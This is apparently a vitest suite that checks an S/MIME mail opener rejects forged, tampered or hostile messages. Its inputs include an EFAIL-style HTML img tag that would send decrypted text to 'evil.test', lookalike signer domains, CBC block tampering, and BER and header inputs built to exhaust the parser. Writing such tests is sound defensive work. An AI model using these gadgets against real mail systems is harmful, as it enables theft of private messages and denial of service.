// Mail that is to be believed and must not be: by the wrong signer, of certificates that are over, revoked or of nobody, changed
// on its way, taken apart and put together anew, or made to harm whoever reads it. None is ever verified, and none breaks anything.
import { constants, privateDecrypt } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Certified, givenCertificate, givenRevocationList, x509 } from '../../../testing/signatures.ts';
import {
  derOf,
  directKeyOf,
  givenDirectAuthority,
  givenDirectCertificate,
  OpensslCms,
  trusting,
} from '../../../testing/smime.ts';
import { defaultLimits as limits } from '../../limits/limits.ts';
import { readBer } from './ber.ts';
import { unpadOaepAs, unpadPkcs1 } from './key-transport.ts';
import { type About, type OpenedMail, openMail } from './open.ts';
import { sealMail } from './seal.ts';
import { UnreadableMail } from './unreadable.ts';

const now = Date.now();
const dayMs = 86_400_000;
const from = 'doctor@clinic.example.org';
const to = 'ann@direct.example.org';
const entity = Buffer.from('Content-Type: text/plain\r\n\r\nYour results are in.\r\n');
const head = `From: ${from}\r\nTo: ${to}\r\n`;

const cms = new OpensslCms();
afterAll(() => cms.end());

let authority: Certified;
let doctor: Certified;
let ann: Certified;
beforeAll(async () => {
  authority = await givenDirectAuthority('Clinics', now);
  doctor = await givenDirectCertificate({ now, issuer: authority, boundTo: [from] });
  ann = await givenDirectCertificate({ now, issuer: authority, boundTo: ['direct.example.org'] });
});

const given = (wishes: Partial<Parameters<typeof givenDirectCertificate>[0]> = {}) =>
  givenDirectCertificate({ now, issuer: authority, boundTo: [from], ...wishes });

function open(raw: Buffer, about: Partial<About> = {}): Promise<OpenedMail> {
  const keys = [directKeyOf(ann, 'direct.example.org')];
  return openMail(raw, { from, to, keys, trust: trusting([authority]), now, limits, ...about });
}

function sign(
  by: Certified,
  content: Buffer = entity,
  options: readonly string[] = ['-md', 'sha256'],
): Buffer {
  const { cert, key } = cms.keep(by);
  return cms.run(['-sign', '-signer', cert, '-inkey', key, ...options], content);
}

function encrypt(content: Buffer, headers = head): Buffer {
  const encrypted = cms.run(['-encrypt', '-aes256', '-recip', cms.keep(ann).cert], content);
  return Buffer.concat([Buffer.from(headers), encrypted]);
}

const seal = (signer = doctor, headers: [string, string][] = [['From', from]], content = entity) =>
  sealMail({
    entity: content,
    headers,
    signer: directKeyOf(signer, from),
    recipients: [derOf(ann)],
    now,
    limits,
  });

/** Why it is not verified; undefined where it is. */
async function whyNot(raw: Buffer, about: Partial<About> = {}): Promise<string | undefined> {
  const { standing } = await open(raw, about);
  return standing.kind === 'unverified' ? standing.why : undefined;
}

async function reasonOf(work: Promise<unknown>): Promise<string> {
  try {
    await work;
    return 'none';
  } catch (error) {
    expect(error).toBeInstanceOf(UnreadableMail);
    return (error as UnreadableMail).reason;
  }
}

describe('a signer', () => {
  test('whose certificate is over, not yet valid, or revoked', async () => {
    expect(await whyNot(await seal())).toBeUndefined();
    expect(await whyNot(await seal(), { now: now + 400 * dayMs })).toBe('expired');
    const early = await given({ notBefore: now + dayMs });
    expect(await whyNot(await seal(early))).toBe('expired');
    const dates = { thisUpdate: now - 1000, nextUpdate: now + dayMs };
    const revoking = await givenRevocationList(authority, [doctor], dates);
    expect(await whyNot(await seal(), { trust: trusting([authority], { lists: [revoking] }) })).toBe(
      'revoked',
    );
    const keeping = await givenRevocationList(authority, [], dates);
    const demanding = { lists: [keeping], areListsDemanded: true };
    expect(await whyNot(await seal(), { trust: trusting([authority], demanding) })).toBeUndefined();
    const without = trusting([authority], { areListsDemanded: true });
    expect(await whyNot(await seal(), { trust: without })).toBe('unknown-revocation');
    const late = { thisUpdate: now - 9 * dayMs, nextUpdate: now - dayMs };
    const old = await givenRevocationList(authority, [], late);
    expect(await whyNot(await seal(), { trust: trusting([authority], { lists: [old] }) })).toBe(
      'unknown-revocation',
    );
  });

  test('nobody vouches for: of another authority, of one of the same name, self-signed, an authority itself', async () => {
    const stranger = await givenDirectAuthority('Strangers', now);
    expect(await whyNot(await seal(await given({ issuer: stranger })))).toBe('untrusted');
    const namesake = await givenDirectAuthority('Clinics', now);
    expect(await whyNot(await seal(await given({ issuer: namesake })))).toBe('untrusted');
    expect(await whyNot(await seal(), { trust: trusting([]) })).toBe('untrusted');
    const above = await given({ isAuthority: true, usages: 1 | 4 | 32 });
    expect(await whyNot(await seal(above))).toBe('untrusted');
    // One that is no authority vouches for nobody.
    const child = await given({ issuer: doctor });
    const raw = await sealMail({
      ...{ entity, headers: [['From', from]], recipients: [derOf(ann)], now, limits },
      signer: directKeyOf(child, from, [doctor]),
    });
    expect(await whyNot(raw)).toBe('untrusted');
  });

  test('whose key is not for signatures, or whose certificate is for other things than mail', async () => {
    expect(await whyNot(await seal(await given({ usages: 4 })))).toBe('untrusted');
    const web = [new x509.ExtendedKeyUsageExtension(['1.3.6.1.5.5.7.3.1'])];
    expect(await whyNot(await seal(await given({ extensions: web })))).toBe('untrusted');
  });

  test('bound to nobody, to others, or to a domain that only looks like it', async () => {
    expect(await whyNot(await seal(await given({ boundTo: [] })))).toBe('not-bound');
    const others = [
      'nurse@clinic.example.org',
      'example.org',
      'sub.clinic.example.org',
      'clinic.example.org.evil.test',
    ];
    for (const boundTo of [...others.map(one => [one]), others])
      expect(await whyNot(await seal(await given({ boundTo })))).toBe('other-signer');
    expect(await whyNot(await seal(await given({ boundTo: ['Clinic.Example.org'] })))).toBeUndefined();
    const name = { name: 'Doctor', now, issuer: authority, usages: 1 };
    const inSubject = await givenCertificate({ ...name, key: doctor.key });
    expect(await whyNot(await seal(inSubject))).toBe('not-bound');
  });

  test('of From is asked for in every place: the envelope, around, and in what was signed', async () => {
    const colleague = 'nurse@clinic.example.org';
    expect(await whyNot(await seal(), { from: colleague })).toBe('other-signer');
    expect(await whyNot(await seal(), { from: '' })).toBeUndefined();
    expect(await whyNot(await seal(doctor, [['From', colleague]]))).toBe('other-signer');
    for (const value of [
      `${from}, ${colleague}`,
      `"${from}" <${colleague}>`,
      `<${from}> <${colleague}>`,
      `${from} ${colleague}`,
      '',
    ])
      expect(await whyNot(await seal(doctor, [['From', value]]))).toBe('other-signer');
    const twice: [string, string][] = [
      ['From', from],
      ['From', colleague],
    ];
    expect(await whyNot(await seal(doctor, twice))).toBe('other-signer');
    const inside = Buffer.concat([Buffer.from(`From: ${colleague}\r\n`), entity]);
    expect(await whyNot(await seal(doctor, [['From', from]], inside))).toBe('other-signer');
    const wrapped = Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), inside]);
    expect(await whyNot(await seal(doctor, [['From', from]], wrapped))).toBe('other-signer');
    const domain = await given({ boundTo: ['clinic.example.org'] });
    // What was signed says it, not what stands around.
    const opened = await open(await seal(domain, [['From', from]], wrapped));
    expect(opened.standing).toMatchObject({ kind: 'verified', address: colleague, boundTo: 'domain' });
    const named = await open(await seal(doctor, [['From', `"Doctor, Ann" <${from}>`]]));
    expect(named.standing.kind).toBe('verified');
  });

  test('whose hash or key is weak', async () => {
    expect(await whyNot(encrypt(sign(doctor, entity, ['-md', 'sha1'])))).toBe('weak');
    expect(await whyNot(encrypt(sign(doctor, entity, ['-md', 'md5'])))).toBe('weak');
    expect(await whyNot(await seal(await given({ hash: 'SHA-1' })))).toBe('weak');
    const small = await givenCertificate({ name: 'x', now, keyBits: 1024 });
    expect(await whyNot(await seal(await given({ key: small.key })))).toBe('weak');
  });

  test('whose certificate does not come along', async () => {
    expect(await whyNot(encrypt(sign(doctor, entity, ['-md', 'sha256', '-nocerts'])))).toBe('untrusted');
  });
});

describe('a frame', () => {
  test('without a signature, without encryption, or neither', async () => {
    expect(await whyNot(encrypt(entity))).toBe('not-signed');
    expect(await whyNot(Buffer.concat([Buffer.from(head), sign(doctor)]))).toBe('not-encrypted');
    expect(await whyNot(Buffer.concat([Buffer.from(head), entity]))).toBe('not-signed');
  });

  test('whose signature is around the encryption alone, as anybody puts it around the mail of others', async () => {
    const stolen = cms.run(['-encrypt', '-aes256', '-recip', cms.keep(ann).cert], entity);
    const raw = Buffer.concat([Buffer.from(head), sign(doctor, stolen)]);
    expect(await open(raw)).toMatchObject({ wasEncrypted: true, standing: { why: 'not-signed' } });
    expect(await whyNot(encrypt(sign(doctor, stolen)))).toBe('not-signed');
  });

  test('of a signature that holds around one that does not', async () => {
    const stranger = await given({ issuer: await givenDirectAuthority('Strangers', now) });
    expect(await whyNot(encrypt(sign(doctor, sign(stranger))))).toBe('untrusted');
    expect(await whyNot(encrypt(sign(stranger, sign(doctor))))).toBe('untrusted');
    expect(await whyNot(encrypt(sign(doctor, sign(doctor))))).toBeUndefined();
  });

  test('of more layers than are opened', async () => {
    let mail: Buffer = entity;
    for (let i = 0; i < limits.directLayersMax; i++) mail = sign(doctor, mail);
    expect(await whyNot(encrypt(mail))).toBe('nested');
  });

  test('with an encrypted part between others is not opened, so nothing of it is sent on by them', async () => {
    const stolen = await seal();
    const mixed = Buffer.concat([
      Buffer.from(
        `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n--b\r\n`,
      ),
      stolen,
      Buffer.from('\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'),
    ]);
    const opened = await open(mixed);
    expect(opened).toMatchObject({ wasEncrypted: false, standing: { why: 'not-signed' } });
    expect(opened.entity.includes('Your results')).toBe(false);
    const outside = Buffer.concat([Buffer.from('Content-Type: text/plain\r\n\r\nBefore.\r\n'), sign(doctor)]);
    expect(await whyNot(encrypt(outside))).toBe('not-signed');
  });

  test('with more than two parts, content in the signature, or a type said twice', async () => {
    const signed = sign(doctor).toString('latin1');
    const [, boundary] = /boundary="([^"]+)"/.exec(signed) ?? [];
    const more = signed.replace(`--${boundary}--`, `--${boundary}\r\n\r\nmore\r\n--${boundary}--`);
    expect(await reasonOf(open(encrypt(Buffer.from(more, 'latin1'))))).toBe('undecryptable');
    const opaque = sign(doctor, entity, ['-md', 'sha256', '-nodetach', '-outform', 'DER']).toString('base64');
    const both = `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nOther.\r\n--x\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n${opaque}\r\n--x--\r\n`;
    expect(await reasonOf(open(Buffer.from(head + both)))).toBe('malformed');
    const twice = `${head}Content-Type: text/plain\r\nContent-Type: application/pkcs7-mime\r\n\r\nx`;
    expect(await reasonOf(open(Buffer.from(twice)))).toBe('malformed');
  });
});

/** What stands in the base64 of a mail, and the same mail with other bytes in its place. */
function bytesOf(raw: Buffer, start = 'base64\r\n') {
  const text = raw.toString('latin1');
  const at = text.indexOf('\r\n\r\n', text.lastIndexOf(start)) + 4;
  const body = /^[A-Za-z0-9+/=\r\n]*/.exec(text.slice(at))![0];
  const remake = (bytes: Buffer) =>
    Buffer.from(
      text.slice(0, at) + bytes.toString('base64') + '\r\n' + text.slice(at + body.length),
      'latin1',
    );
  return { bytes: Buffer.from(body, 'base64'), remake };
}

describe('each byte that is changed', () => {
  /** How many changes leave it as it was; none of what matters may. */
  async function changeEach(
    raw: Buffer,
    start: string,
    isGood: (opened: OpenedMail) => boolean,
  ): Promise<number[]> {
    const { bytes, remake } = bytesOf(raw, start);
    expect(isGood(await open(remake(bytes)))).toBe(true);
    const kept: number[] = [];
    for (let i = 0; i < bytes.length; i++) {
      const changed = Buffer.from(bytes);
      changed[i]! ^= 1 << (i % 8);
      const opened = await open(remake(changed)).catch(error => {
        expect(error).toBeInstanceOf(UnreadableMail);
        return undefined;
      });
      if (!opened || !isGood(opened)) continue;
      expect(opened.entity.equals(entity)).toBe(true);
      kept.push(i);
    }
    return kept;
  }

  test('of the encryption', async () => {
    const raw = await seal();
    const kept = await changeEach(raw, 'base64\r\n', ({ standing }) => standing.kind === 'verified');
    // What only names things in other words, and bits of the frame that mean the same either way: `content-type`.
    expect(kept.length).toBeLessThan(80);
    const { bytes } = bytesOf(raw);
    const envelope = readBer(bytes, limits).parts[1]!.parts[0]!;
    const [, recipients, content] = envelope.parts;
    const regions = [recipients!.parts[0]!.parts[3]!, content!.parts[2]!];
    for (const { raw: region } of regions) {
      const start = bytes.indexOf(region);
      const first = start + region.length - 128;
      expect(kept.filter(i => i >= Math.max(first, start) && i < start + region.length)).toEqual([]);
    }
  }, 120_000);

  test.each([
    ['beside what was signed', ['-md', 'sha256']],
    ['around it', ['-md', 'sha256', '-nodetach']],
    ['around it, without attributes', ['-md', 'sha256', '-nodetach', '-noattr']],
  ])(
    'of a signature %s',
    async (_, options) => {
      const signed = sign(doctor, entity, options).toString('latin1').replace(/\r?\n/g, '\r\n');
      const raw = Buffer.from(head + signed, 'latin1');
      const kept = await changeEach(
        raw,
        'base64\r\n',
        ({ standing }) => standing.kind === 'verified' || standing.why === 'not-encrypted',
      );
      expect(kept.length).toBeLessThan(80);
    },
    120_000,
  );

  test('of what was signed', async () => {
    const signed = sign(doctor).toString('latin1').replace(/\r?\n/g, '\r\n');
    for (let i = 0; i < entity.length - 2; i++) {
      const changed = Buffer.from(entity);
      changed[i]! ^= 1;
      const raw = Buffer.from(
        head + signed.replace(entity.toString('latin1').trimEnd(), changed.toString('latin1').trimEnd()),
        'latin1',
      );
      expect(raw.includes(changed.toString('latin1').trimEnd())).toBe(true);
      const outcome = await whyNot(raw).catch(({ reason }) => reason);
      expect(['tampered', 'malformed', 'undecryptable']).toContain(outcome);
    }
  });

  test('of content that CBC lets be changed shows as what it is: signed, it is tampered with; unsigned, it never was', async () => {
    for (const [mail, doubts] of [
      [encrypt(sign(doctor)), ['tampered', 'malformed', 'undecryptable', 'not-signed', 'untrusted', 'weak']],
      [encrypt(entity), ['not-signed', 'undecryptable']],
    ] as const) {
      const { bytes, remake } = bytesOf(
        Buffer.from(mail.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1'),
      );
      const { raw: region } = readBer(bytes, limits).parts[1]!.parts[0]!.parts[2]!;
      const start = bytes.indexOf(region);
      for (let block = start + 60; block < start + region.length - 48; block += 16) {
        // Blocks of others, and of the mail itself, put where they do not belong.
        const moved = Buffer.from(bytes);
        bytes.copy(moved, block, start + 50, start + 66);
        const opened = await open(remake(moved)).catch(({ reason }) => reason as string);
        if (typeof opened === 'string') expect(doubts).toContain(opened);
        else if (opened.standing.kind === 'unverified') expect(doubts).toContain(opened.standing.why);
        // Only what stands before the first part was hit, which is nothing that is shown.
        else expect(opened.entity.equals(entity)).toBe(true);
      }
    }
  });
});

describe('keys', () => {
  test('that are others answer one thing, whatever was in the way', async () => {
    const raw = await seal();
    const other = await given({ boundTo: ['direct.example.org'] });
    expect(await reasonOf(open(raw, { keys: [directKeyOf(other, 'direct.example.org')] }))).toBe(
      'not-for-us',
    );
    expect(await reasonOf(open(raw, { keys: [] }))).toBe('not-for-us');
    const wrong = { ...directKeyOf(ann, 'direct.example.org'), privateKey: other.key };
    expect(await reasonOf(open(raw, { keys: [wrong] }))).toBe('undecryptable');
    const both = [wrong, directKeyOf(ann, 'direct.example.org')];
    expect((await open(raw, { keys: both })).standing.kind).toBe('verified');
  });

  test('are taken out of a padding as it must be, and made up where it is not', () => {
    const instead = Buffer.alloc(16, 7);
    const key = Buffer.alloc(16, 9);
    const block = Buffer.concat([Buffer.from([0, 2]), Buffer.alloc(237, 1), Buffer.from([0]), key]);
    expect(unpadPkcs1(block, instead).equals(key)).toBe(true);
    for (const [at, byte] of [
      [0, 1],
      [1, 1],
      [2, 0],
      [100, 0],
      [238, 0],
      [239, 1],
    ] as const) {
      const wrong = Buffer.from(block);
      wrong[at] = byte;
      expect(unpadPkcs1(wrong, instead).equals(instead)).toBe(true);
    }
    expect(unpadPkcs1(Buffer.alloc(20, 2), instead).equals(instead)).toBe(true);
    const unpad = unpadOaepAs({ hash: 'sha256', maskHash: 'sha1', label: Buffer.alloc(0) });
    expect(unpad(Buffer.alloc(256, 1), instead).equals(instead)).toBe(true);
    expect(unpad(Buffer.alloc(40, 1), instead).equals(instead)).toBe(true);
  });

  test('of a padding that Node itself takes off are the same', async () => {
    const { bytes } = bytesOf(await seal());
    const recipient = readBer(bytes, limits).parts[1]!.parts[0]!.parts[1]!.parts[0]!;
    const encrypted = recipient.parts[3]!.content;
    const oaep = { padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' };
    const theirs = privateDecrypt({ key: ann.key, ...oaep }, encrypted);
    const block = privateDecrypt({ key: ann.key, padding: constants.RSA_NO_PADDING }, encrypted);
    const unpad = unpadOaepAs({ hash: 'sha256', maskHash: 'sha256', label: Buffer.alloc(0) });
    expect(unpad(block, Buffer.alloc(32)).equals(theirs)).toBe(true);
  });
});

describe('structures made to harm', () => {
  const mail = (bytes: Buffer) =>
    Buffer.from(
      `${head}Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${bytes.toString('base64')}\r\n`,
    );
  const nested = (tag: number, count: number) => {
    let bytes = Buffer.alloc(0);
    for (let i = 0; i < count; i++) {
      const length =
        bytes.length < 128
          ? [bytes.length]
          : [0x84, ...[24, 16, 8, 0].map(shift => (bytes.length >> shift) & 255)];
      bytes = Buffer.concat([Buffer.from([tag, ...length]), bytes]);
    }
    return bytes;
  };

  test.each([
    ['nested too deep', nested(0x30, 1000), 'too-large'],
    ['nested too deep without an end', Buffer.alloc(200_000, Buffer.from([0x30, 0x80])), 'too-large'],
    ['octet strings within each other', nested(0x24, 1000), 'too-large'],
    [
      'a million values',
      Buffer.concat([
        Buffer.from([0x30, 0x84, 0, 0x1e, 0x84, 0x80]),
        Buffer.alloc(2_000_000, Buffer.from([5, 0])),
      ]),
      'too-large',
    ],
    ['longer than they are', Buffer.from([0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0]), 'malformed'],
    ['of no length', Buffer.from([0x04, 0x80, 0, 0]), 'malformed'],
    ['of long tags', Buffer.from([0x3f, 0x81, 0x01, 0]), 'malformed'],
    ['empty', Buffer.alloc(0), 'malformed'],
    ['with something behind', Buffer.from([0x30, 0, 0]), 'malformed'],
  ])('%s', async (_, bytes, reason) => {
    const before = performance.now();
    expect(await reasonOf(open(mail(bytes)))).toBe(reason);
    expect(performance.now() - before).toBeLessThan(2000);
  });

  test('cut off anywhere, or filled with chance', async () => {
    const { bytes } = bytesOf(await seal());
    for (let i = 0; i < bytes.length; i += 13)
      expect(await reasonOf(open(mail(bytes.subarray(0, i))))).not.toBe('none');
    for (let seed = 0; seed < 300; seed++) {
      const changed = Buffer.from(bytes);
      for (let i = 0; i < 8; i++)
        changed[(seed * 7919 + i * 104_729) % changed.length] = (seed * 31 + i * 17) & 255;
      const opened = await open(mail(changed)).catch(error => {
        expect(error).toBeInstanceOf(UnreadableMail);
        return undefined;
      });
      if (opened?.standing.kind === 'verified') expect(opened.entity.equals(entity)).toBe(true);
    }
  });

  test('headers without end, and parameters that take long', async () => {
    const long = `From: ${from}\r\nX: ${'a'.repeat(limits.directHeaderBytesMax)}\r\nContent-Type: text/plain\r\n\r\n`;
    expect(await reasonOf(open(Buffer.from(long)))).toBe('too-large');
    const slow = [
      `a="${'\\"'.repeat(20_000)}`,
      ';'.repeat(60_000),
      '<'.repeat(60_000),
      `${'a '.repeat(30_000)}`,
    ];
    const before = performance.now();
    for (const text of slow) {
      await open(Buffer.from(`From: ${text}\r\nContent-Type: multipart/signed; ${text}\r\n\r\n`)).catch(
        () => {},
      );
      await open(Buffer.from(`Content-Type: ${text}\r\n\r\n`)).catch(() => {});
    }
    expect(performance.now() - before).toBeLessThan(2000);
    const boundaries = `${head}Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=x\r\n\r\n${'--x\r\n'.repeat(500_000)}`;
    expect(await reasonOf(open(Buffer.from(boundaries)))).toBe('malformed');
    expect(performance.now() - before).toBeLessThan(4000);
  });
});
